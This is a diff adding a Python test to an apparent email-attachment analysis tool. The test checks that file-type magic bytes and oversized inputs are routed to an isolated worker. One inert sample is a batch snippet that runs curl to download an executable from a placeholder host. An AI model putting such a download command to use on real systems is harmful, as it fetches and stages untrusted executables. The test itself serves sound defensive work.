@@ -215,3 +215,13 @@ async def test_archive_members_are_looked_up_in_the_store_from_the_worker(tmp_pa
     finally:
         await service.stop()
         await service.store.close()
+
+
+def test_only_small_samples_no_risky_parser_reads_stay_in_the_thread() -> None:
+    from mailowl.analysis.workers import IN_THREAD_MAX, needs_isolation
+
+    assert not needs_isolation(b"@echo off\r\ncurl http://x.invalid/a.exe\r\n")
+    assert not needs_isolation(bytes(range(256)) * 8)
+    for risky in (b"MZ\x90\x00", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04", b"Rar!\x1a\x07\x01\x00",
+                  b"\x1f\x8b\x08", b"<?xml version='1.0'?><w:wordDocument/>", b"x" * (IN_THREAD_MAX + 1)):
+        assert needs_isolation(risky), risky[:20]
